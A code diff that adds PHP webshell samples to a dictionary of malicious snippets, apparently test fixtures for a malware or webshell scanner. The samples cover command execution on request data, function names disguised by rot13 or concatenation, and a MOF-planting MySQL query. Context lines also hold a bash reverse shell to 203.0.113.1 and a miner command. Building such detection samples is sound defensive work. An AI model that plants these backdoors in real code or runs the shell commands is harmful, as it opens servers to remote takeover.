@@ -100,6 +100,13 @@ SNIPPETS: dict[str, bytes] = {
     "perl_eval_decoded_blob": (b"#!/usr/bin/perl\n$code = 'cHJpbnQgMTs=';\n"
                                b"sub b64decode { local($_) = @_; tr|A-Za-z0-9+/||cd; return $_; }\n"
                                b"eval(b64decode($code));\n"),
+    "php_exec_function_chosen_by_name": b"<?php $f = 'passthru'; $f($c . ' 2>&1'); ?>",
+    "php_socket_reuse_shell": b"<?php system('./reuse ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']); ?>",
+    "php_eval_spelled_by_letters": b"<?php $g = 'E'.'v'.'a'.'l'; ?>",
+    "php_command_in_concatenation": (b"<?php $cmd = $_POST['cmd']; passthru('cd /tmp && ' . $cmd . ' 2>&1'); ?>"),
+    "php_mysql_plants_system_file": (b"<?php $q = \"select '#pragma namespace(x)' into dumpfile "
+                                     b"'c:/windows/system32/wbem/mof/x.mof'\"; mysql_query($q); ?>"),
+    "php_variable_function_on_request": b"<?php $k = str_rot13('flfgrz'); $k($_COOKIE['z']); ?>",
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
